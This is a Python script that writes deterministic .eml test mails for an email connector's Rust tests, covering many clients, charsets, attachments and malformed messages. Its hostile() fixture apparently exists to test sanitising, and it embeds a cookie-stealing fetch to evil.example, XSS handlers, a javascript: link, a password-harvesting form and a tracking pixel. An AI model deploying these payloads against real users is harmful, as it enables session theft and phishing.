#!/usr/bin/env python3
"""Writes the test mails beside this script, in the shapes real mail clients send.

Run it after changing a mail here, and commit the .eml files it writes: the Rust tests read the
files, so `cargo test` needs no Python. Output is deterministic (fixed boundaries, dates and ids),
so running it again changes nothing unless this script changed.

    python3 connectors/email/tests/mails/make.py
"""

import base64
import quopri
from email.generator import BytesGenerator
from email.message import Message
from email.mime.base import MIMEBase
from email.mime.multipart import MIMEMultipart
from email.mime.nonmultipart import MIMENonMultipart
from email.policy import compat32
from io import BytesIO
from pathlib import Path

HERE = Path(__file__).resolve().parent

# One of our own replies, as the hub names it (connectors/email/src/thread.rs).
INTERACTION = "0190f3a2-7b1c-7cde-8f00-1234567890ab"
OUR_MESSAGE = "0190f3a2-8000-7abc-9def-0123456789ab"
OUR_ID = f"<pb.{INTERACTION}.{OUR_MESSAGE}@support.example.com>"

# A 1x1 transparent PNG.
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
)
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def word(text, charset, encoding="B"):
    """An RFC 2047 encoded word, as the client writes it."""
    raw = text.encode(charset)
    if encoding == "B":
        return f"=?{charset}?B?{base64.b64encode(raw).decode()}?="
    q = quopri.encodestring(raw, header=True).decode()
    return f"=?{charset}?Q?{q}?="


def text(body, subtype="plain", charset="utf-8", cte="quoted-printable"):
    """A text part whose bytes and transfer encoding are exactly as given."""
    part = MIMENonMultipart("text", subtype, charset=charset)
    raw = body.encode(charset)
    if cte == "base64":
        payload = base64.encodebytes(raw).decode("ascii")
    elif cte == "quoted-printable":
        payload = quopri.encodestring(raw).decode("ascii")
    else:
        payload = raw.decode("latin-1")  # 7bit or 8bit: the bytes go through as they are
    part.set_payload(payload)
    part["Content-Transfer-Encoding"] = cte
    return part


def binary(data, maintype, subtype, **params):
    part = MIMEBase(maintype, subtype, **params)
    part.set_payload(base64.encodebytes(data).decode("ascii"))
    part["Content-Transfer-Encoding"] = "base64"
    return part


def multipart(subtype, boundary, *parts, **params):
    msg = MIMEMultipart(subtype, boundary=boundary, **params)
    # MIMEMultipart adds a MIME-Version to every part; clients put it on the top level only.
    for p in parts:
        if "MIME-Version" in p:
            del p["MIME-Version"]
        msg.attach(p)
    return msg


def headers(msg, pairs):
    """Sets the top-level headers in the order given, before the MIME ones, as clients do."""
    mime = [(k, v) for k, v in msg.items()]
    for k in list(msg.keys()):
        del msg[k]
    for k, v in pairs:
        msg[k] = v
    if "MIME-Version" not in msg:
        msg["MIME-Version"] = "1.0"
    for k, v in mime:
        if k != "MIME-Version":
            msg[k] = v
    return msg


def write(name, msg):
    out = BytesIO()
    BytesGenerator(out, mangle_from_=False, maxheaderlen=0, policy=compat32.clone(linesep="\r\n")).flatten(msg)
    (HERE / name).write_bytes(out.getvalue())


def write_raw(name, raw):
    (HERE / name).write_bytes(raw.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n"))


def gmail():
    plain = "Hi,\n\nMy order #4711 arrived damaged — the box was crushed.\nCan you send a replacement?\n\nThanks,\nAlice\n"
    html = (
        '<div dir="ltr">Hi,<div><br></div><div>My order #4711 arrived damaged — the box was crushed.</div>'
        "<div>Can you send a replacement?</div><div><br></div><div>Thanks,</div><div>Alice</div></div>\n"
    )
    msg = multipart(
        "alternative",
        "000000000000a1b2c3d4e5f60718",
        text(plain, cte="quoted-printable"),
        text(html, "html", cte="quoted-printable"),
    )
    headers(msg, [
        ("MIME-Version", "1.0"),
        ("From", "Alice Example <alice.example@gmail.com>"),
        ("Date", "Mon, 4 Nov 2024 09:15:02 +0100"),
        ("Message-ID", "<CAH7xq3vZ9K1m2N3bQ_x+Yt5w@mail.gmail.com>"),
        ("Subject", "Damaged order #4711"),
        ("To", "Support <support@example.com>"),
        ("X-Gm-Message-State", "AOJu0YwExampleStateOnly"),
    ])
    write("gmail_alternative.eml", msg)


def gmail_reply():
    plain = (
        "Yes, the same address is fine.\n\n"
        "On Mon, 4 Nov 2024 at 10:02, Support <support@example.com> wrote:\n"
        "> Sorry about that! Shall we send it to the same address?\n"
    )
    html = (
        '<div dir="ltr">Yes, the same address is fine.</div><br><div class="gmail_quote">'
        '<div dir="ltr" class="gmail_attr">On Mon, 4 Nov 2024 at 10:02, Support &lt;support@example.com&gt; wrote:<br></div>'
        '<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">'
        "Sorry about that! Shall we send it to the same address?</blockquote></div>\n"
    )
    msg = multipart(
        "alternative",
        "000000000000f0e1d2c3b4a59687",
        text(plain, cte="7bit"),
        text(html, "html", cte="quoted-printable"),
    )
    headers(msg, [
        ("MIME-Version", "1.0"),
        ("References", f"<CAH7xq3vZ9K1m2N3bQ_x+Yt5w@mail.gmail.com> {OUR_ID}"),
        ("In-Reply-To", OUR_ID),
        ("From", "Alice Example <alice.example@gmail.com>"),
        ("Date", "Mon, 4 Nov 2024 10:20:44 +0100"),
        ("Message-ID", "<CAH7xq3tR8s9T0uV1wX2yZ3a@mail.gmail.com>"),
        ("Subject", "Re: Damaged order #4711"),
        ("To", "Support <support@example.com>"),
    ])
    write("gmail_reply.eml", msg)


def outlook():
    plain = "Hello team,\n\nThe invoice shows 120 \u20ac but we agreed on \u201c100 \u20ac\u201d.\nCould you check?\n\nBest regards\nBj\u00f6rn\n"
    html = (
        '<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">'
        '<head><meta http-equiv="Content-Type" content="text/html; charset=windows-1252">'
        "<style><!-- p.MsoNormal {margin:0cm; font-family:\"Calibri\",sans-serif;} --></style></head>"
        '<body lang="DE" link="#0563C1"><div class="WordSection1">'
        '<p class="MsoNormal">Hello team,<o:p></o:p></p><p class="MsoNormal"><o:p>&nbsp;</o:p></p>'
        '<p class="MsoNormal">The invoice shows 120 \u20ac but we agreed on \u201c100 \u20ac\u201d.<o:p></o:p></p>'
        '<p class="MsoNormal">Could you check?<o:p></o:p></p>'
        '<p class="MsoNormal"><o:p>&nbsp;</o:p></p><p class="MsoNormal">Best regards<o:p></o:p></p>'
        '<p class="MsoNormal">Bj\u00f6rn<o:p></o:p></p></div></body></html>\n'
    )
    msg = multipart(
        "alternative",
        "_000_AM0PR02MB5555ABCD1234EFGHAM0PR02MB5555eurp_",
        text(plain, charset="windows-1252", cte="quoted-printable"),
        text(html, "html", charset="windows-1252", cte="quoted-printable"),
    )
    headers(msg, [
        ("From", word("Björn Lindqvist", "iso-8859-1", "Q") + " <bjorn.lindqvist@contoso.example>"),
        ("To", "\"support@example.com\" <support@example.com>"),
        ("CC", "Accounts <accounts@contoso.example>, " + word("Zoë Müller", "utf-8", "B") + " <zoe@contoso.example>"),
        ("Subject", "Invoice 2024-117 wrong amount"),
        ("Thread-Topic", "Invoice 2024-117 wrong amount"),
        ("Thread-Index", "AdsuZ0o+2sWq8n1fQJ6x3R4mL0abCw=="),
        ("Date", "Tue, 5 Nov 2024 14:03:11 +0000"),
        ("Message-ID", "<AM0PR02MB5555ABCD1234EFGH@AM0PR02MB5555.eurprd02.prod.outlook.com>"),
        ("Accept-Language", "de-DE, en-US"),
        ("Content-Language", "de-DE"),
        ("X-MS-Has-Attach", ""),
        ("X-MS-TNEF-Correlator", ""),
        ("X-MS-Exchange-Organization-SCL", "1"),
        ("MIME-Version", "1.0"),
    ])
    write("outlook_windows1252.eml", msg)


def outlook_oof():
    plain = "I am out of the office until 12 November with limited access to email.\n"
    html = '<html><body><p class="MsoNormal">I am out of the office until 12 November with limited access to email.<o:p></o:p></p></body></html>\n'
    msg = multipart(
        "alternative",
        "_000_OOF5555ABCDprodoutlookcom_",
        text(plain, cte="quoted-printable"),
        text(html, "html", cte="quoted-printable"),
    )
    headers(msg, [
        ("From", "Bjorn Lindqvist <bjorn.lindqvist@contoso.example>"),
        ("To", "Support <support@example.com>"),
        ("Subject", "Automatic reply: Your ticket about invoice 2024-117"),
        ("Thread-Topic", "Your ticket about invoice 2024-117"),
        ("Thread-Index", "AQHbL2x1Vb4Xk0m6k0Wq2h5x1c3d4A=="),
        ("Date", "Tue, 5 Nov 2024 15:00:00 +0000"),
        ("Message-ID", "<OOF5555ABCD@AM0PR02MB5555.eurprd02.prod.outlook.com>"),
        ("In-Reply-To", OUR_ID),
        ("References", OUR_ID),
        ("Auto-Submitted", "auto-replied"),
        ("X-Auto-Response-Suppress", "All"),
        ("X-MS-Exchange-Inbox-Rules-Loop", "bjorn.lindqvist@contoso.example"),
        ("X-MS-Exchange-Organization-AutoResponseSuppress", "All"),
        ("MIME-Version", "1.0"),
    ])
    write("outlook_oof.eml", msg)


def apple():
    plain = "Here is a photo of the broken part.\n\n[image: part.png]\n\nCheers,\nChlo\u00e9\n"
    html = (
        '<html><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head>'
        '<body style="overflow-wrap: break-word; -webkit-nbsp-mode: space; line-break: after-white-space;">'
        "Here is a photo of the broken part.<div><br></div>"
        '<div><img apple-inline="yes" id="7A1B" src="cid:3F1E5C2A-0B9D-4E47-9C31-7E2B1D0F5A6C@home" alt="part.png"></div>'
        "<div><br></div><div>Cheers,</div><div>Chlo\u00e9</div></body></html>"
    )
    image = binary(PNG, "image", "png", name="part.png")
    image["Content-Disposition"] = 'inline; filename="part.png"'
    image["Content-Id"] = "<3F1E5C2A-0B9D-4E47-9C31-7E2B1D0F5A6C@home>"
    related = multipart(
        "related",
        "Apple-Mail=_5E2C1B0A-7D4F-4B1E-9A3C-2F1D0E9B8A7C",
        text(html, "html", cte="quoted-printable"),
        image,
        type="text/html",
    )
    msg = multipart(
        "alternative",
        "Apple-Mail=_1C2D3E4F-5A6B-7C8D-9E0F-1A2B3C4D5E6F",
        text(plain, cte="quoted-printable"),
        related,
    )
    headers(msg, [
        ("From", "=?utf-8?Q?Chlo=C3=A9_Martin?= <chloe.martin@icloud.com>"),
        ("Mime-Version", "1.0 (Mac OS X Mail 16.0 \\(3731.700.6\\))"),
        ("Subject", "Broken part"),
        ("Message-Id", "<9B2D7E41-3C5A-4F8E-A1B2-C3D4E5F6A7B8@icloud.com>"),
        ("Date", "Wed, 6 Nov 2024 18:22:37 +0100"),
        ("To", "support@example.com"),
        ("X-Mailer", "Apple Mail (2.3731.700.6)"),
    ])
    write("apple_related.eml", msg)


FOXMAIL_TEXT = "您好：\n\n我的订单号是 2024-0815，付款后一直没有发货，请帮忙查一下。😀\n\n谢谢！\n王小明\n"


def foxmail():
    html = (
        "<html><head><meta http-equiv=\"content-type\" content=\"text/html; charset=gb18030\"></head>"
        "<body><div>您好：</div><div><br></div><div>我的订单号是 2024-0815，付款后一直没有发货，请帮忙查一下。😀</div>"
        "<div><br></div><div>谢谢！</div><div>王小明</div></body></html>"
    )
    msg = multipart(
        "alternative",
        "----=_NextPart_6732A1B4_0A1B2C3D_4E5F6A7B",
        text(FOXMAIL_TEXT, charset="gb18030", cte="base64"),
        text(html, "html", charset="gb18030", cte="base64"),
    )
    headers(msg, [
        ("Date", "Thu, 7 Nov 2024 10:05:40 +0800"),
        ("From", f"\"{word('王小明', 'gb18030')}\" <xiaoming.wang@foxmail.com>"),
        ("To", f"\"{word('客服', 'gb18030')}\" <support@example.com>"),
        ("Subject", word("订单 2024-0815 还没有发货", "gb18030")),
        ("X-Priority", "3"),
        ("X-GUID", "5E1D2C3B-4A59-6877-8695-A4B3C2D1E0F9"),
        ("X-Has-Attach", "no"),
        ("X-Mailer", "Foxmail 7.2.25.228[cn]"),
        ("Mime-Version", "1.0"),
        ("Message-ID", "<202411071005395612345@foxmail.com>"),
    ])
    write("foxmail_gb18030.eml", msg)


def qq():
    body = "你好，\n\n上周买的耳机左边没有声音，能换一个吗？\n\n张伟\n"
    html = "<div>你好，</div><div><br></div><div>上周买的耳机左边没有声音，能换一个吗？</div><div><br></div><div>张伟</div>"
    msg = multipart(
        "alternative",
        "----=_NextPart_672C5D1E_0B7A9F20_2D4C6E80",
        text(body, charset="GBK", cte="base64"),
        text(html, "html", charset="GBK", cte="base64"),
    )
    headers(msg, [
        ("From", f"\"{word('张伟', 'GBK')}\" <123456789@qq.com>"),
        ("To", f"\"{word('客服', 'GBK')}\" <support@example.com>"),
        ("Subject", word("耳机左边没有声音", "GBK")),
        ("Mime-Version", "1.0"),
        ("Date", "Thu, 7 Nov 2024 21:30:06 +0800"),
        ("X-Priority", "3"),
        ("Message-ID", "<tencent_8F2A3B4C5D6E7F8091A2B3C4D5E6F70812@qq.com>"),
        ("X-QQ-MIME", "TCMime 1.0 by Tencent"),
        ("X-Mailer", "QQMail 2.x"),
        ("X-QQ-Mailer", "QQMail 2.x"),
        ("X-QQ-mid", "xmsezb45-0t1731000000t1234567"),
        ("X-QQ-SSF", "00000000000000F0"),
        ("X-QQ-XMAILINFO", "NQR8mRxvfSi2BsxBDo1ZVWc2+Bz1AGvGdOkdkHuR4yz3kKUSFn7T9xXdSaiBRv"),
    ])
    write("qq_gbk.eml", msg)


def netease():
    body = "客服你好，发票抬头写错了，请重新开一张。\n李娜\n"
    msg = text(body, charset="gb2312", cte="base64")
    headers(msg, [
        ("Date", "Fri, 8 Nov 2024 09:12:00 +0800 (CST)"),
        ("From", f"{word('李娜', 'gb2312')} <lina_1988@163.com>"),
        ("To", "support@example.com"),
        ("Message-ID", "<5c3a1d2e.1b2c.19300a1b2c3.Coremail.lina_1988@163.com>"),
        ("Subject", word("发票抬头错误", "GB2312")),
        ("X-Mailer", "Coremail Webmail Server Version 2023.2-cmXT build 20240131"),
        ("X-CM-TRANSID", "_____wD3n0Xy2S1nAbCdEe--.12345S2"),
        ("MIME-Version", "1.0"),
    ])
    write("netease_gb2312.eml", msg)


def big5():
    body = "您好，請問我上週訂購的商品何時出貨？\n陳志明 敬上\n"
    msg = text(body, charset="big5", cte="base64")
    headers(msg, [
        ("From", f"{word('陳志明', 'big5')} <chihming.chen@hinet.example.tw>"),
        ("To", "support@example.com"),
        ("Subject", word("詢問出貨時間", "big5")),
        ("Date", "Fri, 8 Nov 2024 11:45:00 +0800"),
        ("Message-ID", "<20241108114500.4F2A1@hinet.example.tw>"),
        ("MIME-Version", "1.0"),
    ])
    write("big5_taiwan.eml", msg)


def iso2022jp():
    body = "お世話になっております。\n注文番号 JP-2211 の配送状況を教えてください。\n\n山田太郎\n"
    msg = text(body, charset="iso-2022-jp", cte="7bit")
    headers(msg, [
        ("From", f"{word('山田太郎', 'iso-2022-jp')} <taro.yamada@example.co.jp>"),
        ("To", "support@example.com"),
        ("Subject", word("配送状況の確認", "iso-2022-jp")),
        ("Date", "Sat, 9 Nov 2024 08:30:00 +0900"),
        ("Message-ID", "<20241109083000.A1B2C3@example.co.jp>"),
        ("MIME-Version", "1.0"),
        ("X-Mailer", "Becky! ver. 2.81.04"),
    ])
    write("iso2022jp.eml", msg)


def shift_jis():
    body = "いつもありがとうございます。\n商品の返品方法を教えてください。\n佐藤花子\n"
    msg = text(body, charset="Shift_JIS", cte="base64")
    headers(msg, [
        ("From", f"{word('佐藤花子', 'shift_jis')} <hanako.sato@example.ne.jp>"),
        ("To", "support@example.com"),
        ("Subject", word("返品について", "shift_jis")),
        ("Date", "Sat, 9 Nov 2024 13:00:00 +0900"),
        ("Message-ID", "<SJIS.20241109130000@example.ne.jp>"),
        ("MIME-Version", "1.0"),
    ])
    write("shift_jis.eml", msg)


def euc_kr():
    body = "안녕하세요.\n주문한 상품이 아직 도착하지 않았습니다.\n김민준 드림\n"
    msg = text(body, charset="euc-kr", cte="base64")
    headers(msg, [
        ("From", f"{word('김민준', 'euc-kr')} <minjun.kim@naver.example>"),
        ("To", "support@example.com"),
        ("Subject", word("배송 문의", "euc-kr")),
        ("Date", "Sun, 10 Nov 2024 10:00:00 +0900"),
        ("Message-ID", "<euckr.20241110100000@naver.example>"),
        ("MIME-Version", "1.0"),
    ])
    write("euc_kr.eml", msg)


def latin1():
    body = "Grüße aus München! Ça va? Die Lieferung kam leider nicht an.\nJürgen\n"
    msg = text(body, charset="iso-8859-1", cte="quoted-printable")
    headers(msg, [
        ("From", f"{word('Jürgen Groß', 'iso-8859-1', 'Q')} <juergen@example.de>"),
        ("To", "support@example.com"),
        ("Subject", word("Lieferung nicht erhalten, bitte prüfen", "iso-8859-1", "Q")),
        ("Date", "Sun, 10 Nov 2024 16:20:00 +0100"),
        ("Message-ID", "<latin1.20241110@example.de>"),
        ("MIME-Version", "1.0"),
    ])
    write("latin1.eml", msg)


def hostile():
    html = (
        "<html><body><p>Please verify your account.</p>"
        "<script>fetch('https://evil.example/steal?c='+document.cookie)</script>"
        "<img src=x onerror=\"alert(document.domain)\">"
        "<img src=\"https://tracker.example/open.gif?id=42\" width=\"1\" height=\"1\">"
        "<form action=\"https://evil.example/login\" method=\"post\"><input name=\"password\" type=\"password\"><button>Log in</button></form>"
        "<a href=\"javascript:alert(1)\">Click here</a> <a href=\"https://example.com/help\">Help</a>"
        "<svg onload=\"alert(2)\"></svg><iframe src=\"https://evil.example/frame\"></iframe>"
        "</body></html>"
    )
    msg = text(html, "html", cte="quoted-printable")
    headers(msg, [
        ("From", "Security Team <security@phish.example>"),
        ("To", "support@example.com"),
        ("Subject", "Action required"),
        ("Date", "Mon, 11 Nov 2024 03:00:00 +0000"),
        ("Message-ID", "<hostile.1@phish.example>"),
        ("MIME-Version", "1.0"),
    ])
    write("hostile_html.eml", msg)


def attachments():
    body = text("请见附件中的报价单和合同。\n\n刘洋\n", charset="utf-8", cte="base64")
    html = text("<p>请见附件中的报价单和合同。</p><p>刘洋</p>", "html", charset="utf-8", cte="base64")
    # RFC 2231 (what Thunderbird and Gmail write): charset, no language, percent-encoded.
    pdf = binary(PDF, "application", "pdf")
    pdf["Content-Disposition"] = "attachment; filename*=UTF-8''%E6%8A%A5%E4%BB%B7%E5%8D%95.pdf"
    # RFC 2047 inside a quoted parameter (not standard, what Outlook and Foxmail write).
    doc = binary(b"PK\x03\x04 not really a docx", "application",
                 "vnd.openxmlformats-officedocument.wordprocessingml.document",
                 name=word("合同草案.docx", "gb18030"))
    doc["Content-Disposition"] = f"attachment; filename=\"{word('合同草案.docx', 'gb18030')}\""
    # RFC 2231 §3 continuations of a long name.
    sheet = binary(b"a,b\n1,2\n", "text", "csv", charset="us-ascii")
    sheet["Content-Disposition"] = (
        "attachment;\r\n filename*0*=utf-8''%E5%AE%A2%E6%88%B7%E5%90%8D%E5%8D%95%2D;\r\n"
        " filename*1*=%32%30%32%34%E5%B9%B4%E7%AC%AC%E5%9B%9B%E5%AD%A3%E5%BA%A6;\r\n filename*2=.csv"
    )
    msg = multipart(
        "mixed",
        "----=_Part_40112_1722345678.1731300000000",
        multipart("alternative", "----=_Part_40113_1986789012.1731300000000", body, html),
        pdf,
        doc,
        sheet,
    )
    headers(msg, [
        ("From", "=?UTF-8?B?5YiY5rSL?= <liu.yang@example.cn>"),
        ("To", "support@example.com"),
        ("Subject", "=?UTF-8?B?5oql5Lu35Y2V5ZKM5ZCI5ZCM?="),
        ("Date", "Mon, 11 Nov 2024 10:00:00 +0800"),
        ("Message-ID", "<attachments.20241111@example.cn>"),
        ("MIME-Version", "1.0"),
    ])
    write("attachment_rfc2231.eml", msg)


def forward():
    original = text("請問退款什麼時候到帳？\n", charset="big5", cte="base64")
    headers(original, [
        ("From", "Mei Lin <mei.lin@example.tw>"),
        ("To", "kevin@example.com"),
        ("Subject", word("退款進度", "big5")),
        ("Date", "Sun, 10 Nov 2024 20:00:00 +0800"),
        ("Message-ID", "<original.20241110@example.tw>"),
        ("MIME-Version", "1.0"),
    ])
    attached = MIMEBase("message", "rfc822")
    attached.set_payload([original])
    del attached["MIME-Version"]
    attached["Content-Disposition"] = "attachment"
    msg = multipart(
        "mixed",
        "------------fwd0A1B2C3D4E5F60718",
        text("Forwarding a customer's question, see below.\n\nKevin\n", cte="7bit"),
        attached,
    )
    headers(msg, [
        ("From", "Kevin Brown <kevin@example.com>"),
        ("To", "support@example.com"),
        ("Subject", "Fwd: " + word("退款進度", "big5")),
        ("Date", "Mon, 11 Nov 2024 08:00:00 +0000"),
        ("Message-ID", "<fwd.20241111@example.com>"),
        ("User-Agent", "Mozilla Thunderbird"),
        ("MIME-Version", "1.0"),
    ])
    write("forward_rfc822.eml", msg)


def bounce():
    human = text(
        "This is the mail system at host mx.example.com.\n\n"
        "I'm sorry to have to inform you that your message could not\nbe delivered to one or more recipients.\n\n"
        "<nobody@customer.example>: host mx.customer.example said: 550 5.1.1 User unknown\n",
        charset="us-ascii", cte="7bit",
    )
    human["Content-Description"] = "Notification"
    status = MIMENonMultipart("message", "delivery-status")
    per_message, per_recipient = Message(), Message()
    per_message["Reporting-MTA"] = "dns; mx.example.com"
    for k, v in [("Final-Recipient", "rfc822; nobody@customer.example"), ("Action", "failed"),
                 ("Status", "5.1.1"), ("Diagnostic-Code", "smtp; 550 5.1.1 User unknown")]:
        per_recipient[k] = v
    status.set_payload([per_message, per_recipient])
    del status["MIME-Version"]
    returned = MIMENonMultipart("text", "rfc822-headers")
    returned.set_payload(
        f"From: Support <support@example.com>\r\nTo: nobody@customer.example\r\n"
        f"Subject: Re: Your question\r\nMessage-ID: {OUR_ID}\r\n"
    )
    del returned["MIME-Version"]
    msg = multipart(
        "report",
        "4XyZ1.1731300000/mx.example.com",
        human,
        status,
        returned,
        **{"report-type": "delivery-status"},
    )
    headers(msg, [
        ("Return-Path", "<>"),
        ("From", "MAILER-DAEMON@mx.example.com (Mail Delivery System)"),
        ("Subject", "Undelivered Mail Returned to Sender"),
        ("To", "support@example.com"),
        ("Auto-Submitted", "auto-replied"),
        ("Date", "Mon, 11 Nov 2024 12:00:00 +0000 (UTC)"),
        ("Message-Id", "<20241111120000.4XyZ1@mx.example.com>"),
        ("MIME-Version", "1.0"),
    ])
    write("bounce_report.eml", msg)


def invite():
    ics = (
        "BEGIN:VCALENDAR\r\nPRODID:-//Google Inc//Google Calendar 70.9054//EN\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\n"
        "BEGIN:VEVENT\r\nDTSTART:20241115T090000Z\r\nDTEND:20241115T093000Z\r\n"
        "ORGANIZER;CN=Alice Example:mailto:alice.example@gmail.com\r\n"
        "UID:7kukuqrfedlm2f9t0vfs2nbr3b@google.com\r\nSUMMARY:Call about order 4711\r\n"
        "END:VEVENT\r\nEND:VCALENDAR\r\n"
    )
    cal = text(ics, "calendar", cte="7bit")
    cal.set_param("method", "REQUEST")
    msg = multipart(
        "alternative",
        "000000000000cal0a1b2c3d4e5f6",
        text("You have been invited to: Call about order 4711\nFri 15 Nov 2024 09:00 - 09:30 (UTC)\n", cte="7bit"),
        text("<p>You have been invited to: <b>Call about order 4711</b></p>", "html", cte="7bit"),
        cal,
    )
    headers(msg, [
        ("MIME-Version", "1.0"),
        ("Reply-To", "Alice Example <alice.example@gmail.com>"),
        ("Sender", "Google Calendar <calendar-notification@google.com>"),
        ("Message-ID", "<calendar-0a1b2c3d-4e5f@google.com>"),
        ("Date", "Tue, 12 Nov 2024 09:00:00 +0000"),
        ("Subject", "Invitation: Call about order 4711 @ Fri 15 Nov 2024 09:00 - 09:30 (UTC)"),
        ("From", "Alice Example <alice.example@gmail.com>"),
        ("To", "support@example.com"),
    ])
    write("calendar_invite.eml", msg)


def broken():
    write_raw("no_from.eml", (
        "To: support@example.com\nSubject: Who am I?\nDate: Tue, 12 Nov 2024 10:00:00 +0000\n"
        "Message-ID: <nofrom@example.com>\nMIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n\n"
        "A mail without a sender.\n"
    ).encode())
    write_raw("unknown_charset.eml", (
        "From: Worf <worf@example.com>\nTo: support@example.com\nSubject: Greetings\n"
        "Date: Tue, 12 Nov 2024 10:00:00 +0000\nMessage-ID: <klingon@example.com>\nMIME-Version: 1.0\n"
        "Content-Type: text/plain; charset=\"x-klingon\"\nContent-Transfer-Encoding: base64\n\n"
        "nUfKZOL0L1RpbGVk\n"
    ).encode())
    write_raw("unclosed_boundary.eml", (
        "From: Truncated <cut@example.com>\nTo: support@example.com\nSubject: Cut off\n"
        "Date: Tue, 12 Nov 2024 10:00:00 +0000\nMessage-ID: <unclosed@example.com>\nMIME-Version: 1.0\n"
        "Content-Type: multipart/mixed; boundary=\"never-closed\"\n\n"
        "--never-closed\nContent-Type: text/plain; charset=utf-8\n\n"
        "The rest of this mail was lost on the way.\n"
    ).encode())
    write_raw("garbage_base64.eml", (
        "From: Noise <noise@example.com>\nTo: support@example.com\nSubject: Static\n"
        "Date: Tue, 12 Nov 2024 10:00:00 +0000\nMessage-ID: <garbage@example.com>\nMIME-Version: 1.0\n"
        "Content-Type: multipart/mixed; boundary=\"b\"\n\n"
        "--b\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n\n"
        "!!!! this is not base64 at all ~~~~ \u00ff\u00fe\n"
        "--b--\n"
    ).encode("latin-1"))


def newsletter():
    msg = text("<p>Our November deals are here!</p>", "html", cte="7bit")
    headers(msg, [
        ("From", "Shop News <news@shop.example>"),
        ("To", "support@example.com"),
        ("Subject", "November deals"),
        ("Date", "Wed, 13 Nov 2024 07:00:00 +0000"),
        ("Message-ID", "<news.1311@shop.example>"),
        ("List-Unsubscribe", "<https://shop.example/unsubscribe?u=1>, <mailto:leave@shop.example>"),
        ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"),
        ("Precedence", "bulk"),
        ("MIME-Version", "1.0"),
    ])
    write("newsletter.eml", msg)


if __name__ == "__main__":
    for make in [gmail, gmail_reply, outlook, outlook_oof, apple, foxmail, qq, netease, big5, iso2022jp,
                 shift_jis, euc_kr, latin1, hostile, attachments, forward, bounce, invite, broken, newsletter]:
        make()
    print(f"wrote {len(list(HERE.glob('*.eml')))} mails to {HERE}")
